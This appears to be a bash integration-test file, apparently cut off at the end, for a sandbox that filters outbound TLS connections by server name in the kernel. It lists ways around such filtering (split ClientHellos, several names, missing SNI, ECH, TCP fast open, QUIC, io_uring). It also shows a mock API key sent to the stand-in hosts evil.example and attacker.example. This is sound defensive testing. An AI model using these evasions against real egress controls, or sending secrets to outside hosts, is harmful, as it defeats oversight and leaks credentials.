# SPDX-License-Identifier: LGPL-2.1-or-later
# The TLS server name checked in the kernel (issue 27): one address, 127.0.0.10:443, serves
# api.openai.com and evil.example by SNI (tests/standin/sni_server.py, a throwaway CA), as a
# CDN edge does; the policy allows api.openai.com:443 only, which a local dnsmasq resolves to
# that address. Each way of getting evil.example served is first shown to work outside the
# sandbox (the evil name served, the key in its request), then refused inside: the job's call
# fails (EPERM, or the connection reset), the stand-in received no byte at all on that
# connection, and the audit log has the one op "tls" refusal with its reason, counted in the
# exit line. The allowed name still works in the same job.
#
# The client is tests/helpers/tls_evade: OpenSSL writes the ClientHello into a memory BIO and
# the helper hands those bytes to the kernel by the path under test.

SNI_ADDR=127.0.0.10
# An address and port the check does not cover (test_sni_reconnect_unchecked).
SNI_PLAIN_ADDR=127.0.0.14
listeners "tcp:$SNI_PLAIN_ADDR:8080"
SNI_DNS=127.0.0.53
SNI_DNS_PORT=5357
SNI_POLICY_JSON='{"name": "sni", "allow": [{"host": "api.openai.com", "ports": [443]}]}'
# What the job's call may give when its connection is refused: EPERM on the write, or the
# connection reset (ECONNRESET on the read, EPIPE on a later write). EACCES too: it is what
# the kernel returns for an sk_msg program's drop (tcp_bpf_send_verdict, net/ipv4/tcp_bpf.c),
# the write failing in the job all the same.
SNI_REFUSED='^(EPERM|EACCES|ECONNRESET|EPIPE)$'
# Client and server fast open, and data in the SYN without a cookie, in this netns only
# (1 | 2 | 4 | 0x200): the ClientHello really rides in the SYN.
SNI_FASTOPEN=519

# The CA once per run, readable by the jobs (nobody).
sni_ca() {
	SNI_CA=$IT_TMP/sni-ca/ca.pem
	[ -s "$SNI_CA" ] && return 0
	"$IT_ROOT/tests/standin/make-ca.sh" "$IT_TMP/sni-ca.$BASHPID" >/dev/null &&
		chmod 755 "$IT_TMP/sni-ca.$BASHPID" &&
		mv -T "$IT_TMP/sni-ca.$BASHPID" "$IT_TMP/sni-ca" 2>/dev/null
	[ -s "$SNI_CA" ] || fail "cannot make the test CA"
}

# The stand-in on SNI_ADDR:443 (TCP and UDP), its log in SNI_LOG; dnsmasq for both names; the
# policy in SNI_POLICY ($1: another policy's JSON).
sni_setup() {
	local _

	sni_ca || return 1
	SNI_LOG=$T_DIR/standin.jsonl
	: >"$SNI_LOG"
	# The last test's stand-in may still hold the port for a moment after its SIGKILL.
	for _ in 1 2 3 4 5; do
		"$IT_PY" "$IT_ROOT/tests/standin/sni_server.py" "$IT_TMP/sni-ca/server.pem" \
			"$IT_TMP/sni-ca/server.key" "$SNI_ADDR" 443 "$SNI_LOG" "$T_DIR/standin.ready" \
			2>"$T_DIR/standin.err" &
		SNI_PID=$!
		track_pid "$SNI_PID"
		wait_for_file "$T_DIR/standin.ready" 5 && break
		kill -KILL "$SNI_PID" 2>/dev/null
		sleep 0.2
	done
	[ -s "$T_DIR/standin.ready" ] ||
		fail "the stand-in did not start: $(brief "$(cat "$T_DIR/standin.err")")" || return 1
	dnsmasq_start "$SNI_DNS" "$SNI_DNS_PORT" "$T_DIR/dns.log" \
		--address=/api.openai.com/"$SNI_ADDR" --address=/evil.example/"$SNI_ADDR" || return 1
	SNI_POLICY=$(policy sni "${1:-$SNI_POLICY_JSON}")
}

# Lines of the stand-in's log since sni_mark.
sni_mark() {
	SNI_MARK=$(wc -l <"$SNI_LOG")
}

sni_since() {
	tail -n +"$((SNI_MARK + 1))" "$SNI_LOG"
}

# sni_wait N: at most 5 s for N lines since the mark (the stand-in logs a connection at its end).
sni_wait() {
	local i

	for ((i = 0; i < 250; i++)); do
		[ "$(sni_since | grep -c .)" -ge "$1" ] && return 0
		sleep 0.02
	done
	return 1
}

# sni_check_log PYTHON_CONDITION: every line since the mark, as the dict e, satisfies it;
# prints the offending lines otherwise.
sni_check_log() {
	sni_since | "$IT_PY" -c '
import json, sys
cond = sys.argv[1]
bad = [l.strip() for l in sys.stdin if l.strip() and not eval("(" + cond + ")", {}, {"e": json.loads(l)})]
print("\n".join(bad))
sys.exit(1 if bad else 0)' "$1"
}

sni_evade() {
	"$IT_HELPERS/tls_evade" "$1" "$SNI_ADDR" 443 "$2" "$SNI_CA" 2>>"$T_DIR/tls_evade.err"
}

# A TcpExt counter of this netns (/proc/net/netstat).
tcpext() {
	awk -v k="$1" '$1 == "TcpExt:" { if (!n) { for (i = 2; i <= NF; i++) idx[$i] = i; n = 1 }
		else print $(idx[k]) }' /proc/net/netstat
}

# sni_outside MODE NAMES: the evasion works without the sandbox: the evil name is served, the
# key reached it.
sni_outside() {
	local mode=$1 names=$2 got want="OK evil.example 200" bad

	[ "$mode" != quic ] || want="OK evil.example udp"
	sni_mark
	got=$(sni_evade "$mode" "$names")
	echo "outside: tls_evade $mode $names -> $got"
	expect_eq "outside the sandbox, tls_evade $mode $names" "$want" "$got" || return 1
	sni_wait 1 || fail "outside: the stand-in logged nothing for $mode" || return 1
	bad=$(sni_check_log '(e["sni"] or e["host"]) == "evil.example" and e["bytes"] > 0 and
		e["path"] in ("/?k=sk_live_SECRET", "key")') ||
		fail "outside: the stand-in did not serve evil.example the key: $(brief "$bad")"
}

# sni_inside MODE NAMES: one job makes the evasion, then a normal connection to the allowed
# name. The first is refused, the second served; the stand-in got no byte of the first.
sni_inside() {
	local mode=$1 names=$2 bad

	sni_mark
	# shellcheck disable=SC2016
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- /bin/sh -c '
		"$0" "$1" "$2" 443 "$3" "$4" 2>/dev/null
		"$0" normal "$2" 443 api.openai.com "$4" 2>/dev/null' \
		"$IT_HELPERS/tls_evade" "$mode" "$SNI_ADDR" "$names" "$SNI_CA"
	expect_rc "job" 0 || return 1
	mapfile -t SNI_RESULTS <<<"$L_OUT"
	expect_match "inside, tls_evade $mode $names" "$SNI_REFUSED" "${SNI_RESULTS[0]:-}" ||
		return 1
	expect_eq "inside, the allowed name after it" "OK api.openai.com 200" \
		"${SNI_RESULTS[1]:-}" || return 1
	sni_wait 1 || fail "inside: the stand-in logged nothing" || return 1
	# A refused connection is logged when the stand-in sees its end: give it that moment.
	sleep 0.3
	bad=$(sni_check_log '(e["sni"] == "api.openai.com" and e["host"] == "api.openai.com") or
		(e["bytes"] == 0 and e["sni"] is None and not e["names"])') ||
		fail "inside: bytes of the refused connection reached the stand-in: $(brief "$bad")" ||
		return 1
	[ "$(sni_since | grep -c '"sni":"api.openai.com"')" = 1 ] ||
		fail "inside: the allowed connection was not served once: $(brief "$(sni_since)")"
}

# sni_refused_audit REASON [SNI]: the job's one refusal is an op "tls" line with that reason
# (and server name), and the exit line counts it.
sni_refused_audit() {
	local reason=$1 sni=${2:-}

	audit_check || return 1
	expect_audit 1 "$L_AUDIT" event=deny || return 1
	# shellcheck disable=SC2086 # the sni match is there or not
	expect_audit 1 "$L_AUDIT" event=deny op=tls reason="$reason" ${sni:+sni="$sni"} \
		dst_ip="$SNI_ADDR" dst_port=443 dst_port:int pid:int comm=tls_evade uid=65534 \
		sandbox="$L_NAME" policy=sni || return 1
	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied=1 'denied_by_op={"tls":1}'
}

# sni_evasion MODE NAMES REASON [SNI]: outside, inside, and the audit trail.
sni_evasion() {
	sni_setup || return 1
	sni_outside "$1" "$2" || return 1
	sni_inside "$1" "$2" || return 1
	sni_refused_audit "$3" "${4:-}"
}

# The plain case: the allowed name is served inside, another name on the same address is not.
test_sni_allowed_name() {
	sni_evasion normal evil.example name evil.example
}

test_sni_write_per_byte() {
	sni_evasion bytewise evil.example name evil.example
}

# The first record ends in the middle of the ClientHello (too_large: the whole ClientHello must
# be in the first record), so the check can neither judge nor pass a partial message.
test_sni_two_records() {
	sni_evasion tworecords evil.example too_large
}

# api.openai.com first in the server_name list, evil.example last (which the stand-in serves).
test_sni_two_names() {
	sni_evasion twonames api.openai.com,evil.example multiple_names
}

test_sni_no_sni() {
	sni_evasion nosni evil.example no_sni
}

test_sni_plain_http() {
	sni_evasion http evil.example not_tls
}

test_sni_writev() {
	sni_evasion writev evil.example name evil.example
}

test_sni_sendfile() {
	sni_evasion sendfile evil.example name evil.example
}

test_sni_splice() {
	sni_evasion splice evil.example name evil.example
}

# The sandbox refuses io_uring_setup itself (op io_uring, docs/threat-model.md row 2), so the
# ClientHello never gets to an io_uring send; were that refusal lifted, the send would reach
# the same sk_msg hook as send(2) (io_uring's IORING_OP_SEND calls sock_sendmsg).
test_sni_iouring() {
	sni_setup || return 1
	sni_outside iouring evil.example || return 1
	sni_inside iouring evil.example || return 1
	audit_check || return 1
	expect_audit 1 "$L_AUDIT" event=deny || return 1
	expect_audit 1 "$L_AUDIT" event=deny op=io_uring comm=tls_evade || return 1
	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied=1 'denied_by_op={"io_uring":1}'
}

test_sni_zerocopy() {
	sni_evasion zerocopy evil.example name evil.example
}

# An encrypted_client_hello extension (whose inner hello the stand-in, like any server without
# the ECH key, ignores) with evil.example as the outer name; with the allowed outer name, the
# same hello passes.
test_sni_ech() {
	sni_evasion ech evil.example ech evil.example || return 1
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- \
		"$IT_HELPERS/tls_evade" ech "$SNI_ADDR" 443 api.openai.com "$SNI_CA"
	expect_rc "job" 0 || return 1
	expect_eq "ech with the allowed outer name" "OK api.openai.com 200" "$L_OUT" || return 1
	expect_audit 0 "$L_AUDIT" event=deny
}

# A ClientHello of 17 KiB (an extension of 17,000 bytes): OpenSSL spreads it over two
# records, so the first record cannot hold it.
test_sni_too_large() {
	sni_evasion large evil.example too_large
}

# sni_fastopen MODE: the ClientHello in the SYN. Outside, the server counts a fast open with
# data (TCPFastOpenPassive), so the data did ride in the SYN. Inside, the refusal may come
# before any ClientHello is judged (fast open refused as such): one deny line either way,
# and when it is op "tls" it names evil.example.
sni_fastopen() {
	local mode=$1 old rc

	old=$(sysctl -n net.ipv4.tcp_fastopen)
	sysctl -qw net.ipv4.tcp_fastopen="$SNI_FASTOPEN" || fail "cannot set tcp_fastopen" ||
		return 1
	sni_fastopen_run "$mode"
	rc=$?
	sysctl -qw net.ipv4.tcp_fastopen="$old"
	return "$rc"
}

sni_fastopen_run() {
	local mode=$1 before after op

	sni_setup || return 1
	before=$(tcpext TCPFastOpenPassive)
	sni_outside "$mode" evil.example || return 1
	after=$(tcpext TCPFastOpenPassive)
	[ "$after" -gt "$before" ] ||
		fail "outside: no fast open with data in the SYN (TCPFastOpenPassive $before -> $after)" ||
		return 1
	sni_inside "$mode" evil.example || return 1
	audit_check || return 1
	expect_audit 1 "$L_AUDIT" event=deny || return 1
	op=$(audit_get "$L_AUDIT" event=deny -- op)
	echo "fast open refused as op $op"
	if [ "$op" = tls ]; then
		expect_audit 1 "$L_AUDIT" event=deny op=tls reason=name sni=evil.example \
			dst_ip="$SNI_ADDR" dst_port=443 || return 1
	fi
	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied=1 "denied_by_op={\"$op\":1}"
}

test_sni_fastopen() {
	sni_fastopen fastopen
}

test_sni_fastopen_connect() {
	sni_fastopen fastopen-connect
}

# QUIC: the policy allows TCP to 443 only, so the datagram is refused by the address rules.
test_sni_quic() {
	sni_setup || return 1
	sni_outside quic evil.example || return 1
	sni_mark
	# shellcheck disable=SC2016
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- /bin/sh -c '
		"$0" quic "$1" 443 evil.example "$2" 2>/dev/null
		"$0" normal "$1" 443 api.openai.com "$2" 2>/dev/null' \
		"$IT_HELPERS/tls_evade" "$SNI_ADDR" "$SNI_CA"
	expect_rc "job" 0 || return 1
	expect_lines "inside" EPERM "OK api.openai.com 200" || return 1
	sni_wait 1 || fail "inside: the stand-in logged nothing" || return 1
	sleep 0.2
	[ "$(sni_since | grep -c '"proto":"udp"')" = 0 ] ||
		fail "inside: the datagram reached the stand-in: $(brief "$(sni_since)")" || return 1
	audit_check || return 1
	expect_audit 1 "$L_AUDIT" event=deny || return 1
	expect_audit 1 "$L_AUDIT" event=deny protocol=udp dst_ip="$SNI_ADDR" dst_port=443
}

# The server name matches whatever its case, with one trailing dot ignored.
test_sni_name_case_and_dot() {
	local got

	sni_setup || return 1
	sni_mark
	# No CA: OpenSSL's host check is not what this test is about.
	# shellcheck disable=SC2016
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- /bin/sh -c '
		"$0" normal "$1" 443 API.OpenAI.COM 2>/dev/null
		"$0" normal "$1" 443 api.openai.com. 2>/dev/null
		"$0" normal "$1" 443 api.openai.com.. 2>/dev/null' "$IT_HELPERS/tls_evade" "$SNI_ADDR"
	expect_rc "job" 0 || return 1
	mapfile -t got <<<"$L_OUT"
	expect_match "API.OpenAI.COM" '^OK ' "${got[0]:-}" || return 1
	expect_match "api.openai.com." '^OK ' "${got[1]:-}" || return 1
	expect_match "api.openai.com.." "$SNI_REFUSED" "${got[2]:-}" || return 1
	expect_audit 1 "$L_AUDIT" event=deny op=tls "reason~^(name|malformed)$" || return 1
	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied=1 'denied_by_op={"tls":1}'
}

# sni_socks_has COOKIE: the socket is in one of the SNI check's sockhashes (the pins of every
# build's programs: bpftool looks the cookie up, as little-endian key bytes).
sni_socks_has() {
	local key pin

	key=$(printf '%016x' "$1" | sed -E 's/(..)(..)(..)(..)(..)(..)(..)(..)/\8 \7 \6 \5 \4 \3 \2 \1/')
	while read -r pin; do
		# shellcheck disable=SC2086 # the key's bytes are words
		bpftool map lookup pinned "$pin" key hex $key >/dev/null 2>&1 && return 0
	done < <(awk '{ for (i = 7; i <= NF; i++) if ($i == "-") { if ($(i + 1) == "bpf") print $5; break } }' \
		/proc/self/mountinfo | while read -r m; do
		find "$m" -maxdepth 1 -name 'launch-sni-socks-*' 2>/dev/null
	done)
	return 1
}

# sni_held NAME: a job's tls_evade connection to NAME, held open at its end (TLS_EVADE_HOLD);
# SNI_COOKIE is its socket's cookie; SNI_HOLD is the folder whose "go" lets it close, after
# which its result is the other line of its output.
sni_held() {
	local i

	SNI_HOLD=$IT_TMP/hold.$BASHPID.$1
	rm -rf "$SNI_HOLD"
	mkdir -m 755 "$SNI_HOLD" || return 1
	launch_bg --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" \
		--setenv TLS_EVADE_HOLD="$SNI_HOLD" -- "$IT_HELPERS/tls_evade" normal "$SNI_ADDR" 443 \
		"$1" "$SNI_CA"
	for ((i = 0; i < 1000; i++)); do
		SNI_COOKIE=$(sed -n 's/^COOKIE \([0-9]*\)$/\1/p' "$L_OUT_FILE")
		[ -n "$SNI_COOKIE" ] && return 0
		kill -0 "$L_PID" 2>/dev/null || break
		sleep 0.02
	done
	fail "tls_evade to $1 printed no cookie: $(brief "$(cat "$L_OUT_FILE" "$L_ERR_FILE")")"
}

# A refused connection stays in the sockhash until it closes (every later send fails); a
# passed one leaves it at the peer's first acknowledgement (the sock_ops program's RTT
# callback), so its later sends take the plain TCP path. The refused one shows that the
# look-up finds a socket that is there.
test_sni_passed_leaves_sockmap() {
	local i

	sni_setup || return 1
	sni_held evil.example || return 1
	sni_socks_has "$SNI_COOKIE" ||
		fail "the refused connection (cookie $SNI_COOKIE) is not in the sockhash"
	touch "$SNI_HOLD/go"
	launch_bg_wait 20 || return 1
	[ ! -s "$T_REASON" ] || return 1
	expect_match "the refused connection" "$SNI_REFUSED" "$(grep -v "^COOKIE " "$L_OUT_FILE")" || return 1
	sni_held api.openai.com || return 1
	for ((i = 0; i < 100; i++)); do
		sni_socks_has "$SNI_COOKIE" || break
		sleep 0.02
	done
	! sni_socks_has "$SNI_COOKIE" ||
		fail "the passed connection (cookie $SNI_COOKIE) is still in the sockhash"
	touch "$SNI_HOLD/go"
	launch_bg_wait 20 || return 1
	[ ! -s "$T_REASON" ] || return 1
	expect_eq "the passed connection" "OK api.openai.com 200" "$(grep -v "^COOKIE " "$L_OUT_FILE")"
}

# A TCP socket connected to an SNI-checked address, disconnected (connect with AF_UNSPEC)
# before any hello, then connected to an address the check does not cover: its sends there
# are plain TCP (its state of the first connection, pending, would have them judged and
# refused as not_tls). The listener gets them; the log has no refusal.
test_sni_reconnect_unchecked() {
	sni_setup "{\"name\": \"sni\", \"allow\": [{\"host\": \"api.openai.com\", \"ports\": [443]},
		{\"cidr\": \"$SNI_PLAIN_ADDR/32\", \"ports\": [8080]}]}" || return 1
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- "$IT_PY" -c '
import ctypes, errno, socket, sys
s = socket.create_connection((sys.argv[1], 443), timeout=10)
# struct sockaddr with sa_family AF_UNSPEC: TCP disconnects the socket (tcp_disconnect).
unspec = (ctypes.c_ubyte * 16)()
libc = ctypes.CDLL(None, use_errno=True)
if libc.connect(s.fileno(), unspec, 16) != 0:
    print("disconnect", errno.errorcode.get(ctypes.get_errno()))
    sys.exit(0)
s.connect((sys.argv[2], 8080))
try:
    s.sendall(b"hello\n")
    print("sent")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))' "$SNI_ADDR" "$SNI_PLAIN_ADDR"
	expect_rc "job" 0 || return 1
	expect_eq "the send after the reconnect" sent "$L_OUT" || return 1
	expect_received tcp "$SNI_PLAIN_ADDR" 8080 1 || return 1
	expect_audit 0 "$L_AUDIT" event=deny
}

# "sni": false turns the check off for a rule: then evil.example on the shared address is
# served inside too, which is what the check closes.
test_sni_off() {
	sni_setup '{"name": "sni", "allow": [{"host": "api.openai.com", "ports": [443], "sni": false}]}' ||
		return 1
	sni_mark
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- \
		"$IT_HELPERS/tls_evade" normal "$SNI_ADDR" 443 evil.example "$SNI_CA"
	expect_rc "job" 0 || return 1
	expect_eq "with sni false" "OK evil.example 200" "$L_OUT" || return 1
	expect_audit 0 "$L_AUDIT" event=deny
}

# Exact under a flood: every refused connection is a deny line or counted as lost, and
# denied says how many.
test_sni_flood() {
	local n=100 lines lost

	sni_setup || return 1
	# Two waves of 50 at once (the job's default pids_max is 128 on 2 CPUs).
	# shellcheck disable=SC2016
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- /bin/sh -c '
		for wave in 1 2; do
			i=0; while [ $i -lt $(($3 / 2)) ]; do
				"$0" normal "$1" 443 evil.example "$2" >/dev/null 2>&1 &
				i=$((i + 1))
			done; wait
		done' "$IT_HELPERS/tls_evade" "$SNI_ADDR" "$SNI_CA" "$n"
	expect_rc "job" 0 || return 1
	audit_check || return 1
	lines=$(audit_count "$L_AUDIT" event=deny op=tls reason=name)
	lost=$(audit_get "$L_AUDIT" event=sandbox_exit -- lost)
	echo "deny lines $lines, lost $lost"
	expect_eq "deny lines + lost" "$n" "$((lines + lost))" || return 1
	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied="$n"
}

# One sandbox holds at most 1,024 places in the host-wide map of connections awaiting their
# judgement (MAX_SNI_PENDING_PER_SANDBOX), so that no job fills it for the others: a job holds
# 1,100 connections to the checked address open without a ClientHello; its next connection's
# hello is not judged and never leaves (the backstop drops it: tls_unjudged), while another
# sandbox's connection is served meanwhile; once the job closes them, its places are back and
# its next connection is served.
test_sni_pending_per_sandbox() {
	local hold held other out audit i n

	sni_setup || return 1
	hold=$IT_TMP/hold.$BASHPID.pending
	rm -rf "$hold"
	mkdir -m 755 "$hold" || return 1
	# shellcheck disable=SC2016
	launch_bg --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" --pids-max 64 -- \
		"$IT_PY" -c '
import os, resource, socket, subprocess, sys, time
evade, addr, ca, hold = sys.argv[1:5]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2048), hard))
held = [socket.create_connection((addr, 443), timeout=10) for _ in range(1100)]
print("HELD", len(held), flush=True)
def hello():
    out = subprocess.run([evade, "normal", addr, "443", "api.openai.com", ca],
                         capture_output=True, text=True, timeout=30).stdout.strip()
    print(out or "-", flush=True)
hello()
for _ in range(2000):
    if os.path.exists(hold + "/go"):
        break
    time.sleep(0.01)
for s in held:
    s.close()
# The places come back as the connections reach TCP_CLOSE (the stand-in answering the FINs).
for _ in range(40):
    out = subprocess.run([evade, "normal", addr, "443", "api.openai.com", ca],
                         capture_output=True, text=True, timeout=30).stdout.strip()
    if out.startswith("OK"):
        break
    time.sleep(0.25)
print(out or "-", flush=True)' "$IT_HELPERS/tls_evade" "$SNI_ADDR" "$SNI_CA" "$hold"
	out=$L_OUT_FILE audit=$L_AUDIT
	for ((i = 0; i < 3000; i++)); do
		held=$(grep -c . "$out" 2>/dev/null)
		[ "${held:-0}" -ge 2 ] && break
		kill -0 "$L_PID" 2>/dev/null || break
		sleep 0.02
	done
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$SNI_POLICY" -- \
		"$IT_HELPERS/tls_evade" normal "$SNI_ADDR" 443 api.openai.com "$SNI_CA"
	other=$L_OUT
	touch "$hold/go"
	launch_bg_wait 60 || return 1
	expect_rc "job" 0 || return 1
	mapfile -t held <"$out"
	echo "job: ${held[*]}; another sandbox meanwhile: $other"
	expect_eq "connections held" "HELD 1100" "${held[0]:-}" || return 1
	# Not judged (no EACCES from the sk_msg program): its hello never left, the read timed out.
	expect_match "the job's connection beyond its 1,024 places" '^(ETIMEDOUT|EAGAIN)$' \
		"${held[1]:-}" || return 1
	expect_eq "another sandbox meanwhile" "OK api.openai.com 200" "$other" || return 1
	expect_eq "the job's connection once it closed the others" "OK api.openai.com 200" \
		"${held[2]:-}" || return 1
	n=$(audit_count "$audit" event=deny reason=tls_unjudged)
	[ "$n" -ge 1 ] || fail "no tls_unjudged refusal in the job's log: $(brief "$(cat "$audit")")"
}

# A connection with no mark (sni_state) to an SNI-checked address and port: sockops could not
# store it (the kernel out of memory, which no test can bring about on demand), or the
# connection was made before the address became SNI-checked, which a test can: at launch the
# name resolves elsewhere and a cidr rule lets the job connect to SNI_LATE_ADDR:443, unchecked;
# then the name moves there and the job looks it up, the DNS proxy's answer making the address
# SNI-checked. The connection's next payload was never judged: the egress backstop drops it
# (op packet, tls_unjudged). With "sni": false on the rule, the same steps deliver it.
SNI_LATE_ADDR=127.0.0.12
SNI_LATE_START=127.0.0.13

# Appends every byte a connection to $1:443 brings to the file $2; $3 once listening.
SNI_LATE_SERVER='import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], 443))
s.listen(4)
open(sys.argv[3], "w").write("ready\n")
while True:
    c, _ = s.accept()
    while True:
        try:
            d = c.recv(4096)
        except OSError:
            break
        if not d:
            break
        with open(sys.argv[2], "ab") as f:
            f.write(d)
    c.close()'

# The job: connects and sends "first", waits for the name to move, looks it up, sends "second"
# on the same connection, and resets it (SO_LINGER 0: no unsent data outlives the job).
SNI_LATE_CLIENT='import os, socket, struct, sys, time
d, addr = sys.argv[1], sys.argv[2]
s = socket.create_connection((addr, 443), timeout=5)
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
s.sendall(b"first\n")
open(d + "/connected", "w").write("yes\n")
while not os.path.exists(d + "/moved"):
    time.sleep(0.05)
ai = socket.getaddrinfo("api.openai.com", 443, socket.AF_INET, socket.SOCK_STREAM)
print("resolved=" + ai[0][4][0])
try:
    s.sendall(b"second\n")
    print("sent")
except OSError as e:
    print(os.strerror(e.errno))
time.sleep(1)
s.close()'

# sni_late SNI_KEY: the steps above under a policy whose host rule has SNI_KEY (empty: the
# default, on for port 443); the server's bytes in $T_DIR/late.bytes.
sni_late() {
	local p

	rm -f "$T_DIR/connected" "$T_DIR/moved" "$T_DIR/late.ready"
	: >"$T_DIR/late.bytes"
	"$IT_PY" -c "$SNI_LATE_SERVER" "$SNI_LATE_ADDR" "$T_DIR/late.bytes" "$T_DIR/late.ready" \
		2>"$T_DIR/late.err" &
	SNI_LATE_PID=$!
	track_pid "$SNI_LATE_PID"
	wait_for_file "$T_DIR/late.ready" 5 ||
		fail "the server did not start: $(brief "$(cat "$T_DIR/late.err")")" || return 1
	printf '%s api.openai.com\n' "$SNI_LATE_START" >"$T_DIR/hosts"
	dnsmasq_start "$SNI_DNS" "$SNI_DNS_PORT" "$T_DIR/dns.log" --addn-hosts="$T_DIR/hosts" \
		--local-ttl=0 || return 1
	p=$(policy "late$1" '{"name": "sni", "allow": [
		{"host": "api.openai.com", "ports": [443]'"$1"'},
		{"cidr": "'"$SNI_LATE_ADDR"'", "ports": [443]}]}')
	launch_bg --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$p" -- \
		"$IT_PY" -c "$SNI_LATE_CLIENT" "$T_DIR" "$SNI_LATE_ADDR"
	wait_for_file "$T_DIR/connected" 10 || {
		kill -KILL "$L_PID" 2>/dev/null
		fail "the job did not connect: $(brief "$(cat "$L_ERR_FILE")")"
		return 1
	}
	dnsmasq_moved "$SNI_DNS" "$SNI_DNS_PORT" api.openai.com "$SNI_LATE_ADDR" || return 1
	touch "$T_DIR/moved"
	launch_bg_wait 20 || return 1
	cat "$L_OUT_FILE"
	expect_rc "job" 0 || return 1
	grep -qx "resolved=$SNI_LATE_ADDR" "$L_OUT_FILE" ||
		fail "the name did not move to $SNI_LATE_ADDR" || return 1
	kill "$SNI_LATE_PID" "$DNSMASQ_PID"
	wait "$SNI_LATE_PID" "$DNSMASQ_PID" 2>/dev/null
	return 0
}

test_sni_no_state() {
	local n

	sni_late ', "sni": false' || return 1
	expect_eq "without the check, what the server got" "first second" \
		"$(tr '\n' ' ' <"$T_DIR/late.bytes" | sed 's/ $//')" || return 1
	expect_audit 0 "$L_AUDIT" event=deny || return 1
	sni_late "" || return 1
	expect_eq "with the check, what the server got" first "$(cat "$T_DIR/late.bytes")" ||
		return 1
	audit_check || return 1
	n=$(audit_count "$L_AUDIT" event=deny)
	[ "$n" -ge 1 ] && [ "$n" = "$(audit_count "$L_AUDIT" event=deny op=packet \
		reason=tls_unjudged dst_ip="$SNI_LATE_ADDR" dst_port=443)" ] ||
		fail "expected only op packet tls_unjudged lines: $(brief "$(cat "$L_AUDIT")")" ||
		return 1
	expect_audit 1 "$L_AUDIT" event=sandbox_exit packet_dropped:int
}

# The real SDKs with the check on: examples/openai-agent and examples/anthropic-agent call a
# stand-in (tests/standin/server.mjs) at an address it shares with attacker.example, found
# through dnsmasq. Outside, the shared address serves attacker.example the key; inside, the
# SDK's call goes through, the agent's fetch to the bare address (a ClientHello without a
# server name) is refused as no_sni, and nothing reaches the attacker.
SNI_SDK_ADDR=127.0.0.11

# sni_sdk PROVIDER KEY_VARIABLE SDK_LINE
sni_sdk() {
	local provider=$1 var=$2 line=$3 src=$IT_ROOT/examples/$1-agent dir=$IT_TMP/examples/$1-agent
	local mark got

	[ -f "$src/node_modules/.package-lock.json" ] ||
		fail "$src/node_modules is not installed: make test runs npm ci there" || return 1
	command -v node >/dev/null || fail "node not found (make deps installs nodejs)" || return 1
	if [ ! -d "$dir" ]; then
		mkdir -p "$IT_TMP/examples" && chmod 755 "$IT_TMP/examples" &&
			cp -a "$src" "$dir.$BASHPID" && chmod -R a+rX "$dir.$BASHPID" &&
			mv -T "$dir.$BASHPID" "$dir" || fail "cannot copy $src" || return 1
	fi
	sni_ca || return 1
	node "$IT_ROOT/tests/standin/server.mjs" "$IT_TMP/sni-ca/server.pem" \
		"$IT_TMP/sni-ca/server.key" "$SNI_SDK_ADDR" 443 "$T_DIR/sdk.ready" \
		>"$T_DIR/sdk.log" 2>&1 &
	track_pid $!
	dnsmasq_start "$SNI_DNS" "$SNI_DNS_PORT" "$T_DIR/dns.log" \
		--address=/openai.com/"$SNI_SDK_ADDR" --address=/anthropic.com/"$SNI_SDK_ADDR" \
		--address=/attacker.example/"$SNI_SDK_ADDR" || return 1
	wait_for_file "$T_DIR/sdk.ready" 10 ||
		fail "the stand-in did not start: $(brief "$(cat "$T_DIR/sdk.log")")" || return 1

	got=$("$IT_HELPERS/tls_evade" normal "$SNI_SDK_ADDR" 443 attacker.example "$SNI_CA" 2>&1)
	echo "outside: tls_evade normal attacker.example -> $got"
	expect_eq "outside, attacker.example on the shared address" "OK - 200" "$got" || return 1
	grep -q 'GET attacker.example /?k=sk_live_SECRET' "$T_DIR/sdk.log" ||
		fail "outside: the key did not reach attacker.example" || return 1

	mark=$(wc -l <"$T_DIR/sdk.log")
	# The job inherits these, as the demo's agent does; each test runs in a bash of its own.
	export "$var=sk_test_sni_sdk" NODE_EXTRA_CA_CERTS="$SNI_CA" EXAMPLE_ADDRESS="$SNI_SDK_ADDR"
	cd "$dir" || return 1
	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$IT_ROOT/policies/$provider.json" \
		-- "$dir/node_modules/.bin/tsx" "$dir/agent.ts"
	cd "$T_DIR" || return 1
	expect_rc "the agent" 0 || return 1
	grep -qF "$line: Hello from the stand-in." "$L_OUT_FILE" ||
		fail "the SDK's call did not go through: $(brief "$L_OUT")" || return 1
	grep -q 'went through' "$L_OUT_FILE" &&
		fail "an attempt of the injected code went through: $(brief "$L_OUT")" && return 1
	tail -n +"$((mark + 1))" "$T_DIR/sdk.log" | grep -q "POST api.$provider.com /v1/" ||
		fail "the stand-in never saw the SDK's call" || return 1
	got=$(tail -n +"$((mark + 1))" "$T_DIR/sdk.log" | grep -v "api.$provider.com")
	[ -z "$got" ] || fail "inside: other requests reached the stand-in: $(brief "$got")" ||
		return 1
	audit_check || return 1
